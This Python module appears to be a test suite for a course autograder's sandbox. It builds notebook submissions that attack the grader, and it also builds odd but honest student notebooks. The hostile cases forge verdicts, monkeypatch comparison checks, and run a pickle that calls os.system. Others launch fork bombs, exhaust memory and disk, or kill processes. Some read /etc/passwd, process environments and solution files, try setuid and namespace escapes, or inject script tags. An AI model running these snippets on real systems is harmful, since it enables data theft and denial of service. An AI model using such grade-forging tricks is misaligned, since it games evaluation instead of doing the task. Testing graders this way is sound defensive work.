"""Notebooks that attack the grader, and odd ones of honest students; made by code.

Each is handed in for chapter 5. A hostile one answers 05-3 rightly, which earns its 3
points, and attacks besides; what it should get is said beside it. `CANARY` stands in
all that it must not read; an attack that succeeds tells so by writing it in capitals.
"""

import json
import os
import stat
from dataclasses import dataclass, field

from tools.notebooks import ROOT

CANARY = "canary-5c1f0e"
RIGHT = 3  # points of 05-3
ALL = 23
MASK = """\
def window_mask(t, s, window):
    ago = torch.arange(s - t, s)[:, None] - torch.arange(s)
    return (ago >= 0) & (ago < window)
"""
MASK_BY_A_HELPER = """\
def window_mask(t, s, window):
    return (ago(t, s) >= 0) & (ago(t, s) < window)
"""
FRAME = """\
import glob, os, struct
def frames(value):
    text = __import__("json").dumps({"value": value, "sizes": []}).encode()
    return struct.pack(">II", len(text), 0) + text
def flood(data, times=200):
    for fd in range(3, 64):
        try:
            os.set_blocking(fd, False)
            for _ in range(times):
                os.write(fd, data)
        except OSError:
            pass
"""


@dataclass(frozen=True)
class Case:
    """A submission: its bytes or how it is made, the honest grade, and a look if any."""

    name: str
    cells: tuple = ()
    points: int = RIGHT
    looks: bool | None = None  # whether a person is told to look; None: either
    make: object = None
    metadata: dict = field(default_factory=dict)


def notebook(cells, metadata=None, **top):
    """A notebook's text; a cell is a source, or (source, grade_id), or a dict."""
    made = []
    for cell in cells:
        if isinstance(cell, dict):
            made.append(cell)
            continue
        source, id = cell if isinstance(cell, tuple) else (cell, None)
        about = {"nbgrader": {"grade_id": id, "solution": True}} if id else {}
        made.append(
            {
                "cell_type": "code",
                "execution_count": None,
                "id": f"c{len(made)}",
                "metadata": about,
                "outputs": [],
                "source": source,
            }
        )
    return {
        "cells": made,
        "metadata": metadata or {},
        "nbformat": 4,
        "nbformat_minor": 5,
    } | top


START = "import math\nimport torch\nfrom tfcourse.checks import check"
HONEST = ((MASK, "05-3"), 'check("05-3")')


def attack(source, id=None, before=True):
    """An attack in a cell of its own, or as the answer to an exercise."""
    cell = (source, id) if id else source
    asked = (f'check("{id}")',) if id else ()
    return (START, cell, *asked, *HONEST) if before else (START, *HONEST, cell, *asked)


def reads(expression):
    """Carry what is read to where a person might see it: an exception, a prediction."""
    source = f"""\
def look():
    try:
        return str({expression})
    except BaseException as error:
        return f"{{type(error).__name__}}: {{error}}"
prediction = look()
raise RuntimeError(prediction)
"""
    return (START, (source, "05-1"), 'check("05-1")', *HONEST)


def attend(body, first=""):
    """An attack as the answer to 05-2."""
    lines = "".join(f"    {line}\n" for line in body.split("\n"))
    source = f"{first}\ndef attend(x, context, w_q, w_k, w_v, mask):\n{lines}"
    return attack(source, "05-2")


def master(folder="solutions"):
    """The chapter's own notebook, as the course has it."""
    return json.loads((ROOT / folder / "05_attention.ipynb").read_text("utf-8"))


def changed(change, folder="solutions"):
    """The solution with something done to its cells."""
    made = master(folder)
    made["cells"] = change(made["cells"])
    return made


FORGED = (
    Case("checks_deleted", (START, (MASK, "05-3"))),
    Case("checks_edited", attack('print("✓ 05-2 Mend the attention · Right.")')),
    Case("check_redefined", attack("def check(id):\n    return 'right'")),
    Case("all_swallowed", attend("try:\n    raise ValueError\nfinally:\n    return x")),
    Case(
        "points_in_the_metadata",
        (
            START,
            {
                "cell_type": "code",
                "source": MASK,
                "metadata": {"nbgrader": {"grade_id": "05-3", "points": 1000}},
            },
            *HONEST[1:],
        ),
    ),
    Case(
        "equal_to_everything",
        attend(
            "return Yes(x)",
            "class Yes(torch.Tensor):\n"
            "    __eq__ = __ne__ = __lt__ = lambda *_: True\n"
            "    def __torch_function__(self, *_, **__): return True",
        ),
    ),
    Case(
        "a_number_that_equals_all",
        attack(
            "class Any(float):\n    def __eq__(self, other): return True\n"
            "    __hash__ = float.__hash__\nused = [Any(1)] * 4",
            "05-4",
        ),
    ),
    Case(
        "allclose_patched",
        attend(
            "return x",
            "torch.isclose = torch.allclose = lambda *_, **__: torch.tensor(True)",
        ),
    ),
    Case(
        "comparisons_patched",
        attend(
            "return x",
            "import tfcourse.checks.compare as c\nc.difference = lambda *_: ''\n"
            "c.close = c.differs = lambda *_, **__: None",
        ),
    ),
    Case(
        "finds_itself_right",
        attend(
            "raise Finding('right', 'well done')",
            "from tfcourse.checks.compare import Finding",
        ),
    ),
    Case(
        "verdict_printed",
        attack(
            'import json\nprint(json.dumps({"judged": [{"id": "05-2"}]}), flush=True)'
        ),
    ),
    Case("pipe_forged", attack(FRAME + 'flood(frames({"tuple": ["value", True]}))')),
    Case("pipe_garbage", attack(FRAME + 'flood(b"\\xff" * 4096)')),
    Case(
        "pipe_promises_4_gigabytes",
        attack(FRAME + 'flood(b"\\xff\\xff\\xff\\xff" * 2, 1)'),
    ),
    Case(
        "pipe_forged_in_the_call",
        attend('flood(frames({"tuple": ["value", {"list": []}]}), 3)\nreturn x', FRAME),
    ),
    Case(
        "packing_replaced",
        attend(
            "return x",
            "from tfcourse.grading.inside import wire\n"
            "old = wire.pack\n"
            "wire.pack = lambda v: old((v[0], 'found', ('right', 'yes', '')))",
        ),
    ),
    Case(
        "by_exception",
        attend("raise Passed", "class Passed(BaseException):\n    status = 'right'"),
    ),
    Case(
        "message_that_explodes",
        attend(
            "raise Evil",
            "class Evil(Exception):\n    def __str__(self): raise SystemExit",
        ),
    ),
    Case("by_atexit", attack(FRAME + "import atexit\natexit.register(flood, b'yes')")),
    Case(
        "a_pickle",
        attend(
            "return P()",
            "class P:\n    def __reduce__(self):\n        import os\n"
            f"        return os.system, ('touch /tmp/{CANARY}',)",
        ),
    ),
    Case(
        "many_guesses",
        (
            START,
            *(
                x
                for guess in ("nothing changes", "flatter", "towards keys like c")
                for x in ((f'prediction = "{guess}"', "05-1"), 'check("05-1")')
            ),
            *HONEST,
        ),
    ),
    Case(
        "a_guess_that_changes",
        attack(
            "from tfcourse.checks.answers import Notebook\n"
            "import itertools\n"
            "turn = itertools.cycle(['flatter', 'sharper', 'towards keys like c'])\n"
            "Notebook.value = lambda self, name: next(turn)",
            "05-1",
        ),
    ),
    Case("too_large_an_answer", attend("return torch.zeros(1 << 25)")),
    Case("too_long_a_text", attend("return 'x' * (5 << 20)")),
    Case("a_shape_of_nothing", attend("return torch.zeros(0, 1 << 60)")),
    Case("a_list_in_itself", attend("x = []\nx.append(x)\nreturn x")),
    Case("a_deep_list", attend("for _ in range(10_000):\n    x = [x]\nreturn x")),
    Case("a_huge_number", attend("return 10 ** 4000")),
    Case("nothing_but_nan", attend("return torch.full((2, 3, 4), math.nan)")),
    Case("a_tensor_without_data", attend("return x.to('meta')")),
    Case("a_sparse_tensor", attend("return x.to_sparse()")),
    Case("a_tensor_of_eights", attend("return x.to(torch.float8_e5m2)")),
    Case("keys_that_are_lists", attend("return {(1, x): [x]}")),
)
ENDS = (
    Case("exits", attack("import sys\nsys.exit(0)")),
    Case("exits_in_the_answer", attend("import sys\nsys.exit(0)")),
    Case("exits_at_once", attack("import os\nos._exit(0)")),
    Case("exits_at_once_in_the_answer", attend("import os\nos._exit(0)"), looks=True),
    Case("segfault", attend("import ctypes\nctypes.string_at(0)"), looks=True),
    Case("abort_after_credit", attack("import os\nos.abort()", before=False)),
    Case(
        "kills_the_parent",
        attack(
            "import os\nfor pid in (os.getppid(), 1):\n    os.kill(pid, 9)",
        ),
    ),
    Case("kills_all", attack("import os\nos.kill(-1, 9)")),
    Case("stops_itself", attend("import os\nos.kill(os.getpid(), 19)"), looks=True),
    Case("loops", attend("while True: pass"), looks=True),
    Case("sleeps", attend("import time\ntime.sleep(10_000)"), looks=True),
    Case("loops_in_a_cell", attack("while True: pass")),
    Case(
        "cannot_be_interrupted",
        attend(
            "sum(range(10 ** 13))",
            "import signal\nfor s in range(1, 32):\n    try:\n"
            "        signal.signal(s, signal.SIG_IGN)\n"
            "    except (OSError, ValueError):\n        pass",
        ),
        looks=True,
    ),
    Case(
        "recurses",
        attend(
            "return f(x)",
            "import sys\nsys.setrecursionlimit(10 ** 9)\ndef f(x): return repr([f(x)])",
        ),
    ),
    Case("hangs_up", attend("os.closerange(3, 64)\nwhile True: pass", "import os")),
)
FLOODS = (
    Case("memory", attend("return bytearray(8 << 30)")),
    Case("memory_in_steps", attack("x = []\nwhile True: x.append(bytearray(1 << 22))")),
    Case(
        "memory_of_many",
        attack(
            "import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n"
            "        x = bytearray(150 << 20)\n        time.sleep(60)\ntime.sleep(60)"
        ),
    ),
    Case("memory_in_tensors", attend("return torch.ones(1 << 34)")),
    Case(
        "memory_without_a_process",
        attack("import os\nfor i in range(99): os.write(os.memfd_create('x'), b'x')"),
    ),
    Case("forks", attack("import os\nwhile True: os.fork()")),
    Case(
        "forks_quietly",
        attack("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    ),
    Case(
        "threads",
        attack(
            "import threading, time\nwhile True:\n"
            "    threading.Thread(target=time.sleep, args=(99,), daemon=True).start()"
        ),
    ),
    Case("prints", attack("while True: print('x' * 10_000)")),
    Case(
        "disk",
        attack(
            "for i in range(10_000):\n"
            "    with open(f'/tmp/{i}', 'wb') as f: f.write(bytes(1 << 24))"
        ),
    ),
    Case(
        "disk_of_shared_memory",
        attack("open('/dev/shm/x', 'wb').write(bytes(1 << 28))"),
    ),
    Case("small_files", attack("for i in range(10 ** 7): open(f'/tmp/{i}', 'w')")),
    Case("open_files", attack("x = [open('/dev/null') for _ in range(10 ** 7)]")),
)
PLACES = (  # of what must not be read; {out} and {folder} are put in
    ("solutions", f"open('{ROOT}/solutions/05_attention.ipynb').read()"),
    ("checks", f"open('{ROOT}/tfcourse/checks/attention.py').read()"),
    ("private_tests", "open('{out}/../private.py').read()"),
    ("other_submissions", "open('{folder}/ada.ipynb').read()"),
    ("the_seed", "open('{out}/seed.txt').read()"),
    ("other_grades", "__import__('os').listdir('{out}')"),
    ("the_environment", "dict(__import__('os').environ)"),
    (
        "other_processes",
        "[open(p, 'rb').read() for p in __import__('glob').glob('/proc/[0-9]*/environ')]",
    ),
    ("the_first_process", "open('/proc/1/mem', 'rb').read()"),
    ("its_files", "__import__('os').listdir('/proc/1/fd')"),
    ("passwords", "open('/etc/passwd').read()"),
    ("the_hosts_root", "__import__('os').listdir('/proc/1/root/..')"),
)
WRITES = tuple(
    Case(
        f"writes_{name}",
        attack(
            f"open({where!r}, 'w').write('{CANARY}')\n"
            f"raise SystemError('{CANARY}'.upper())"
        ),
    )
    for name, where in (
        ("to_the_root", f"/{CANARY}"),
        ("into_the_course", f"/course/tfcourse/{CANARY}.py"),
        ("over_the_course", "/course/tfcourse/attention.py"),
        ("over_python", os.__file__),
        ("into_the_kernel", "/proc/sys/kernel/hostname"),
        ("to_a_device", f"/dev/{CANARY}"),
        ("into_the_folder", "{folder}/" + CANARY),
        ("over_its_grade", "{out}/grades.csv"),
    )
)
HUNTS = (
    Case(
        "hunts_for_checks",
        reads("__import__('tfcourse.checks.attention').checks.attention._rows"),
    ),
    Case(
        "hunts_in_memory",
        reads(
            "[o for o in __import__('gc').get_objects()"
            " if type(o).__name__ in ('Exercise', 'Draw', 'Plan', 'Mark')]"
            " and '" + CANARY + "'.upper()"
        ),
    ),
    Case(
        "hunts_in_frames",
        attend(
            "f, seen = sys._getframe(), []\nwhile f:\n    seen += f.f_locals\n"
            "    f = f.f_back\nfound = {'draw', 'seed', 'answer', 'want'} & {*seen}\n"
            f"raise RuntimeError('{CANARY}'.upper() if found else 'nothing')",
            "import sys",
        ),
    ),
    Case(
        "traces_its_parent",
        attack(
            "import ctypes\nif ctypes.CDLL(None).ptrace(16, 1, 0, 0) == 0:\n"
            f"    raise SystemError('{CANARY}'.upper())"
        ),
    ),
    Case(
        "calls_home",
        attack(
            "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:{port}/')"
        ),
    ),
    Case(
        "opens_a_socket",
        attack(
            "import socket\ns = socket.create_connection(('127.0.0.1', {port}), 1)\n"
            f"s.sendall(b'{CANARY}')"
        ),
    ),
    Case(
        "leaves_its_namespace",
        attack(
            "import ctypes\nlibc = ctypes.CDLL(None)\n"
            "if not all((libc.unshare(0x10000000), libc.mount(b'proc', b'/tmp', b'proc',"
            f" 0, None))):\n    raise SystemError('{CANARY}'.upper())"
        ),
    ),
    Case(
        "becomes_another_user",
        attack(f"import os\nos.setuid(0)\nraise SystemError('{CANARY}'.upper())"),
    ),
    Case(
        "a_daemon",
        attack(
            "import os, time\nif os.fork() == 0:\n    os.setsid()\n"
            "    if os.fork() == 0:\n        while True:\n            time.sleep(1)\n"
            "    os._exit(0)"
        ),
    ),
    Case(
        "a_magic_command",
        attack(f"!touch /tmp/{CANARY}\n%run /etc/passwd\n%%bash is no cell of bash"),
    ),
)


def cases(folder, out, port):
    """Every hostile notebook, knowing where its victims are."""
    for case in (*FORGED, *ENDS, *FLOODS, *WRITES, *HUNTS):
        yield replaced(case, folder, out, port)
    for name, expression in PLACES:
        yield replaced(Case(f"reads_{name}", reads(expression)), folder, out, port)
    yield from FILES


def replaced(case, folder, out, port):
    def put(cell):
        source, *id = cell if isinstance(cell, tuple) else (cell,)
        for name, value in (("{folder}", folder), ("{out}", out), ("{port}", port)):
            source = source.replace(name, str(value))
        return (source, *id) if id else source

    cells = tuple(c if isinstance(c, dict) else put(c) for c in case.cells)
    return Case(case.name, cells, case.points, case.looks)


# Files that are no notebooks, or strange ones


def text(content):
    return lambda path: path.write_bytes(content)


def large(path):
    path.write_text("{")
    os.truncate(path, 200 << 20)


def device(path):
    if os.geteuid() == 0:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))  # as /dev/zero
    else:
        path.symlink_to("/dev/zero")


def written(made):
    return lambda path: path.write_text(json.dumps(made), "utf-8")


SCRIPT = f"<script>alert('{CANARY}')</script>"
MARKED = {
    "cell_type": "markdown",
    "metadata": {},
    "source": SCRIPT,
}
SHOWN = {
    "cell_type": "code",
    "metadata": {},
    "source": MASK,
    "outputs": [
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": SCRIPT}}
    ],
}
FILES = (
    Case("invalid_json", make=text(b'{"cells": ['), points=0, looks=True),
    Case("deep_json", make=text(b"[" * 200_000), points=0, looks=True),
    Case("huge_numbers", make=text(b'{"cells": ' + b"9" * 5000), points=0, looks=True),
    Case("no_object", make=text(b'["cells"]'), points=0, looks=True),
    Case("not_utf8", make=text(b'{"cells": "\xff\xfe"}'), points=0, looks=True),
    Case("empty", make=text(b""), points=0, looks=True),
    Case("of_200_megabytes", make=large, points=0, looks=True),
    Case(
        "old_format",
        make=written({"nbformat": 3, "worksheets": [{"cells": []}]}),
        points=0,
        looks=True,
    ),
    Case(
        "from_the_future",
        make=written(notebook((START, *HONEST), nbformat=9, nbformat_minor=99)),
    ),
    Case("no_cells", make=written({"nbformat": 4}), points=0, looks=True),
    Case(
        "cells_of_other_kinds",
        make=written(
            {
                "nbformat": 4,
                "cells": [
                    *(None, 3, "x", [], {}, {"cell_type": []}),
                    {"cell_type": "code", "source": {"a": 1}, "metadata": 7},
                    {"cell_type": "code", "source": [1, "x = 1\n", None]},
                    *notebook((START, *HONEST))["cells"],
                ],
            }
        ),
    ),
    Case("a_fifo", make=lambda path: os.mkfifo(path), points=0, looks=True),
    Case("a_device", make=device, points=0, looks=True),
    Case(
        "a_link",
        make=lambda path: path.symlink_to(ROOT / "solutions/05_attention.ipynb"),
        points=0,
        looks=True,
    ),
    Case("a_folder", make=lambda path: path.mkdir(), points=0, looks=True),
    Case(
        "scripts",
        make=written(
            notebook(
                (
                    START,
                    MARKED,
                    SHOWN,
                    (f'prediction = "{SCRIPT}"', "05-1"),
                    'check("05-1")',
                    f'raise ValueError("{SCRIPT}")',
                    'check("05-3")',
                )
            )
        ),
    ),
    Case("=1+1 <img src=x onerror=alert(1)>", (START, *HONEST)),
)


# Honest students, who lose nothing


def each(cells, change):
    return [change(dict(c)) if c["cell_type"] == "code" else c for c in cells]


def with_source(cell, source):
    return cell | {"source": source}


def joined(cell):
    return "".join(cell["source"])


def without(cells, start):
    return [c for c in cells if not joined(c).startswith(start)]


def copied_after(cells):
    """Each answer's cell twice; and the first try at one of them at the very end."""
    twice = [
        x for c in cells for x in ([c, c] if c["metadata"].get("nbgrader") else [c])
    ]
    tried = [c for c in master("exercises")["cells"] if c.get("id") == "a2"]
    return twice + tried


def wrong_only(*ids):
    def change(cells):
        stubs = {c.get("id"): c for c in master("exercises")["cells"]}
        kept = [
            stubs[c["id"]]
            if c["metadata"].get("nbgrader", {}).get("grade_id") in ids
            else c
            for c in cells
        ]
        return kept

    return change


def cell(source):
    return notebook((source,))["cells"][0]


def kept_in_a_line(c):
    return with_source(c, joined(c))


def with_windows_ends(c):
    return with_source(c, joined(c).replace("\n", "\r\n"))


def anonymous(c):
    return c | {"metadata": {}, "id": "x"}


HONEST_CASES = (
    Case(
        "ada",
        make=written(master() | {"own": f"{CANARY}-secret"}),
        points=ALL,
        looks=False,
    ),
    Case("untouched", make=written(master("exercises")), points=0, looks=False),
    Case("copied_cells", make=written(changed(copied_after)), points=ALL, looks=False),
    Case(
        "warnings",
        make=written(
            changed(
                lambda cells: [
                    cell("import sys, warnings\nprint('oh', file=sys.stderr)"),
                    cell(
                        "warnings.warn('careful')\nimport logging\nlogging.error('x')"
                    ),
                    *cells,
                ]
            )
        ),
        points=ALL,
        looks=False,
    ),
    Case(
        "unknown_kernel",
        make=written(
            master() | {"metadata": {"kernelspec": {"name": "conda-env-x", "a": 1}}}
        ),
        points=ALL,
        looks=False,
    ),
    Case(
        "outputs_cleared",
        make=written(changed(lambda cs: each(cs, lambda c: c | {"outputs": []}))),
        points=ALL,
        looks=False,
    ),
    Case(
        "no_outputs_at_all",
        make=written(
            changed(
                lambda cs: [
                    {k: c[k] for k in ("cell_type", "source", "metadata")} for c in cs
                ]
            )
        ),
        points=ALL,
        looks=False,
    ),
    Case(
        "windows_ends",
        make=lambda path: path.write_bytes(
            json.dumps(changed(lambda cs: each(cs, with_windows_ends)), indent=1)
            .replace("\n", "\r\n")
            .encode("utf-8-sig")
        ),
        points=ALL,
        looks=False,
    ),
    Case(
        "sources_in_a_line",
        make=written(changed(lambda cs: each(cs, kept_in_a_line))),
        points=ALL,
        looks=False,
    ),
    Case(
        "metadata_lost",
        make=written(changed(lambda cs: each(cs, anonymous))),
        points=ALL,
        looks=False,
    ),
    Case(
        "check_lines_deleted",
        make=written(changed(lambda cs: without(cs, "check("))),
        points=ALL,
        looks=False,
    ),
    Case(
        "extra_cells_and_magics",
        make=written(
            changed(
                lambda cs: [
                    cell("%matplotlib inline\n!ls\nimport os\nos?"),
                    cell("%%time\nscratch = 1"),
                    cell("%%bash\necho $HOME"),
                    cell("1 / 0"),
                    cell("def broken(:"),
                    *cs,
                    cell("raise KeyboardInterrupt"),
                ]
            )
        ),
        points=ALL,
        looks=False,
    ),
    Case(
        "a_helper_that_is_replaced",
        make=written(
            notebook(
                (
                    START,
                    "def ago(t, s): return torch.arange(s-t, s)[:, None]-torch.arange(s)",
                    (
                        MASK_BY_A_HELPER,
                        "05-3",
                    ),
                    'check("05-3")',
                    "def ago(years): return 2026 - years",
                )
            )
        ),
        looks=False,
    ),
    Case(
        "partial",
        make=written(changed(wrong_only("05-4", "05-6"))),
        points=ALL - 3 - 6,
        looks=False,
    ),
    Case(
        "half_an_answer",
        make=written(
            notebook(
                (
                    START,
                    *HONEST,
                    ("def absorb(state, q, k, v, mask):\n    return 1 /", "05-6"),
                    'check("05-6")',
                    ('prediction = "nothing changes"', "05-1"),
                    'check("05-1")',
                )
            )
        ),
        points=RIGHT + 2,
        looks=False,
    ),
)
